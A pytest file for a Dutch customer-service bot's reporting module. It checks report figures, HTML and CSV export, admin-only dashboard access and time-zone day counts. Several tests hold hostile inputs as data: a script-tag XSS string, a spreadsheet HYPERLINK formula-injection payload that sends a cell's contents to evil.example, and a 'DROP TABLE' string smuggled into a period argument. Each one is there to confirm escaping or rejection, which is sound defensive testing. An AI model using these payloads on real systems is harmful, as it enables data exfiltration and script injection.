"""Team leads' figures against a seeded set of conversations with known counts (SQLite and PostgreSQL),
the HTML and CSV of `bot report`, the dashboard API, and the demo data."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import requests
from sqlalchemy.orm import Session

from bot.config import ROOT
from bot.desk.callbacks.models import Callback
from bot.desk.conversations.models import Conversation, ConversationEvent, Message
from bot.desk.db import make_engine, make_sessionmaker, utcnow
from bot.desk.handoffs.models import Handoff
from bot.desk.reports.render import rows, to_csv, to_html
from bot.desk.reports.service import PeriodError, compute, parse_since
from bot.hours import short_date
from tests.desk_support import desk, login, project, rasa  # noqa: F401 - fixtures

NOW = utcnow()
AMSTERDAM = ZoneInfo("Europe/Amsterdam")


def conversation(session: Session, days_ago: float, text: str | None, **nlu) -> Conversation:
    at = NOW - timedelta(days=days_ago)
    conv = Conversation(id=os.urandom(16).hex(), token_hash="x" * 64, state="closed", offered_payloads=[], created_at=at)
    session.add(conv)
    session.flush()
    if text is not None:
        session.add(Message(conversation_id=conv.id, seq=1, sender="customer", text=text, created_at=at, **nlu))
    return conv


def handoff(session: Session, conv: Conversation, reason: str, wait: int, handling: int) -> Handoff:
    h = Handoff(conversation_id=conv.id, reason=reason, priority="normal", priority_rank=2, status="resolved",
                context={}, created_at=conv.created_at, claimed_at=conv.created_at + timedelta(minutes=wait),
                closed_at=conv.created_at + timedelta(minutes=wait + handling))
    session.add(h)
    session.flush()
    return h


def seed(url: str) -> None:
    engine = make_engine(url)
    with make_sessionmaker(engine)() as session:
        orders = [conversation(session, d, "Waar is mijn pakket?", intent="order_status", confidence=0.97)
                  for d in (0.1, 1, 2, 3, 4, 5)]
        for d in (8, 9, 10):
            conversation(session, d, "Waar is mijn pakket?", intent="order_status", confidence=0.97)
        conversation(session, 2, "Wat kost verzenden?", intent="faq", confidence=0.99,
                     response_key="faq/shipping_costs", response_confidence=0.98)
        conversation(session, 3, "<script>alert(1)</script> mail jan@voorbeeld.nl", intent="nlu_fallback", confidence=0.3)
        conversation(session, 1, None)  # opened the widget, said nothing: not counted
        first = handoff(session, orders[0], "deadline_at_risk", wait=4, handling=10)
        second = handoff(session, orders[1], "frustration", wait=6, handling=20)
        session.add_all([
            ConversationEvent(conversation_id=orders[0].id, kind="satisfaction", actor="customer",
                              data={"handoff_id": first.id, "solved": True}, created_at=NOW - timedelta(hours=1)),
            ConversationEvent(conversation_id=orders[0].id, kind="satisfaction_score", actor="customer",
                              data={"handoff_id": first.id, "score": 4}, created_at=NOW - timedelta(hours=1)),
            ConversationEvent(conversation_id=orders[0].id, kind="satisfaction_comment", actor="customer",
                              data={"comment": "snel"}, created_at=NOW - timedelta(hours=1)),
            ConversationEvent(conversation_id=orders[1].id, kind="satisfaction", actor="customer",
                              data={"handoff_id": second.id, "solved": False}, created_at=NOW - timedelta(hours=2)),
        ])
        for late, h, conv in ((False, first, orders[0]), (True, second, orders[1])):
            end = NOW - timedelta(days=1)
            session.add(Callback(conversation_id=conv.id, handoff_id=h.id, channel="phone", contact="+31612345678",
                                 status="scheduled" if late else "done", slot_start=end - timedelta(hours=2),
                                 slot_end=end, completed_at=None if late else end - timedelta(minutes=5)))
        session.commit()
    engine.dispose()


@pytest.fixture
def seeded(database_url) -> str:
    seed(database_url)
    return database_url


def report_for(url: str, since: str = "7d"):
    engine = make_engine(url)
    with make_sessionmaker(engine)() as session:
        report = compute(session, tz=AMSTERDAM, since=since, now=NOW.replace(tzinfo=None) + timedelta(seconds=1))
    engine.dispose()
    return report


def test_figures_match_the_seeded_conversations(seeded):
    r = report_for(seeded)
    assert r.conversations == 8 and sum(r.per_day.values()) == 8
    assert r.topics == {"order_status": 6, "faq/shipping_costs": 1} and r.previous_topics == {"order_status": 3}
    assert r.spikes == ["Waar is mijn pakket +100 % t.o.v. vorige week (3 → 6 gesprekken)"]  # a label, not a key
    assert (r.handoffs, r.contained, r.containment) == (2, 6, 0.75)
    assert r.handoff_reasons == {"deadline_at_risk": 1, "frustration": 1}
    assert (r.median_wait_minutes, r.median_handling_minutes) == (5.0, 15.0)
    assert (r.solved_yes, r.solved_no, r.mean_score, r.comments) == (1, 1, 4.0, 1)
    assert r.scores == {"1": 0, "2": 0, "3": 0, "4": 1, "5": 0}
    assert (r.callbacks_due, r.callbacks_on_time, r.callbacks_late_or_missed) == (2, 1, 1)
    assert r.misunderstood == [{"text": "<script>alert(1)</script> mail [e-mail]", "count": 1}]


def test_html_escapes_and_csv_holds_every_figure(seeded):
    r = report_for(seeded)
    page = to_html(r)
    assert "&lt;script&gt;" in page and "<script>" not in page and "jan@voorbeeld.nl" not in page
    assert "Waar is mijn pakket +100 % t.o.v. vorige week" in page and "<svg" in page
    table = list(csv.reader(io.StringIO(to_csv(r, keys=True))))
    assert table[0] == ["metric", "key", "value"] and [tuple(row) for row in table[1:]] == rows(r)  # no formula here
    assert ["containment", "share", "0.750"] in table and ["callbacks", "on_time", "1"] in table


def test_the_csv_speaks_dutch_with_the_same_figures_in_the_same_order(seeded):
    r = report_for(seeded)
    dutch = list(csv.reader(io.StringIO(to_csv(r))))
    keyed = list(csv.reader(io.StringIO(to_csv(r, keys=True))))
    assert dutch[0] == ["Onderdeel", "Wat", "Waarde"]
    assert [row[2] for row in dutch][1:] == [row[2] for row in keyed][1:]  # one row per figure, the same values
    assert ["Terugbelafspraken", "Op tijd", "1"] in dutch
    assert ["Onderwerp", "Waar is mijn pakket", str(r.topics["order_status"])] in dutch
    assert ["Waarom overgedragen", "Deadline in gevaar", "1"] in dutch
    day = next(iter(r.per_day))
    assert ["Gesprekken per dag", short_date(date.fromisoformat(day)), str(r.per_day[day])] in dutch
    assert r.day_labels[day] == short_date(date.fromisoformat(day))
    text = to_csv(r)
    assert not [key for key in ("order_status", "deadline_at_risk", "callbacks", "topic_previous_period", day)
                if key in text]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_customer_message_that_starts_a_formula_is_text_in_the_csv(seeded, start):
    r = report_for(seeded)
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1;"Klik hier")'
    r.misunderstood = [{"text": formula, "count": 2}, {"text": "gewoon een vraag", "count": 1}]
    text = to_csv(r, keys=True)
    table = list(csv.reader(io.StringIO(text)))
    assert ["misunderstood", "'" + formula, "2"] in table  # the spreadsheet shows it, it does not run it
    assert ["misunderstood", "gewoon een vraag", "1"] in table
    assert f'"misunderstood","\'{start}HYPERLINK(""https' in text  # quoted, its quotes doubled


def test_a_wrong_period_is_refused_with_a_clear_message():
    assert parse_since("2w") == timedelta(weeks=2) and parse_since("24h") == timedelta(hours=24)
    for wrong in ("", "7", "0d", "week", "7d; DROP TABLE"):
        with pytest.raises(PeriodError, match="7d"):
            parse_since(wrong)


def test_the_dashboard_api_shows_the_same_numbers_to_admins_only(desk, rasa):
    seed(desk.database_url)
    admin = login(desk, "demo", "balie-demo")
    answer = requests.get(desk.url + "/api/reports", params={"since": "7d"}, headers=admin)
    assert answer.status_code == 200
    expected = report_for(desk.database_url).to_json()
    got = answer.json()
    for key in ("conversations", "topics", "spikes", "containment", "handoff_reasons", "median_wait_minutes",
                "mean_score", "callbacks_on_time", "misunderstood"):
        assert got[key] == expected[key], key
    exported = requests.get(desk.url + "/api/reports.csv", params={"since": "7d"}, headers=admin)
    assert exported.headers["content-type"].startswith("text/csv") and "Waar is mijn pakket" in exported.text
    assert exported.text.startswith('"Onderdeel","Wat","Waarde"') and "order_status" not in exported.text
    keyed = requests.get(desk.url + "/api/reports.csv", params={"since": "7d", "keys": "true"}, headers=admin)
    assert keyed.text.startswith('"metric","key","value"') and '"topic","order_status"' in keyed.text
    assert requests.get(desk.url + "/api/reports", headers=login(desk, "anna", "wachtwoord-anna")).status_code == 403
    assert requests.get(desk.url + "/api/reports", params={"since": "ooit"}, headers=admin).status_code == 422


def test_bot_report_on_the_demo_data_writes_html_and_csv(tmp_path):
    url = f"sqlite:///{tmp_path / 'demo.db'}"
    env = {**os.environ, "DATABASE_URL": url}
    seeded = subprocess.run([sys.executable, "-m", "bot", "seed"], env=env, capture_output=True, text=True, cwd=ROOT)
    assert "demo conversations" in seeded.stdout
    made = subprocess.run([sys.executable, "-m", "bot", "report", "--since", "7d", "--out", str(tmp_path / "out")],
                          env=env, capture_output=True, text=True, cwd=ROOT)
    assert made.returncode == 0, made.stderr
    assert "Waar is mijn pakket +" in made.stdout  # the demo's story: parcel questions rise this week
    page = (tmp_path / "out" / "balie-report-7d.html").read_text()
    table = (tmp_path / "out" / "balie-report-7d.csv").read_text()
    assert "Wat klanten nodig hebben" in page and "Sanne Bakker" not in page and "[naam]" in page
    assert '"Gesprekken","Totaal",' in table and '"Waarom overgedragen",' in table and '"Terugbelafspraken","Op tijd",' in table
    again = subprocess.run([sys.executable, "-m", "bot", "report", "--since", "nooit"], env=env, capture_output=True,
                           text=True, cwd=ROOT)
    assert again.returncode == 2 and "7d" in again.stderr


def test_days_are_counted_in_the_time_zone_of_the_business_hours(desk, rasa, hours_file):
    """23:30 UTC is already tomorrow in Amsterdam and still today in Los Angeles: the dashboard counts the
    day where the team is, as business_hours.yml says, not in a time zone written into the report."""
    late = datetime.combine(NOW.date() - timedelta(days=2), datetime.min.time()) + timedelta(hours=23, minutes=30)
    engine = make_engine(desk.database_url)
    with make_sessionmaker(engine)() as session:
        conversation(session, (NOW - late).total_seconds() / 86400, "Wat kost verzenden?", intent="faq", confidence=0.9)
        session.commit()
    engine.dispose()
    admin = login(desk, "demo", "balie-demo")
    in_amsterdam = requests.get(desk.url + "/api/reports", headers=admin).json()["per_day"]
    original = hours_file.read_text()
    hours_file.write_text(original.replace("Europe/Amsterdam", "America/Los_Angeles"))
    try:
        in_los_angeles = requests.get(desk.url + "/api/reports", headers=admin).json()["per_day"]
    finally:
        hours_file.write_text(original)
    assert in_amsterdam == {(late.date() + timedelta(days=1)).isoformat(): 1}
    assert in_los_angeles == {late.date().isoformat(): 1}
